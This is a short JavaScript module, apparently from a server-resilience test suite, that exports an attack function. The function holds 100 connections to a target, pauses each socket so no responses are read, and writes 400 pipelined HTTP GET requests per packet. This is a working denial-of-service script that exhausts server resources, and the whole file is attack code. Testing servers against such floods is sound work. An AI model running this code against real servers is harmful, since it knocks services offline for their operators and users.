// A hundred connections, each with four hundred requests in one packet, whose answers nobody reads.
import { holdConnections } from '../support/connections.mjs';

export const attack = (target) => {
  const packet = `GET / HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n\r\n`.repeat(400);
  return holdConnections(target, 100, (socket) => {
    socket.pause();
    socket.write(packet);
    // Who reads nothing notices only by writing that the connection is gone.
    return () => socket.write(packet);
  });
};
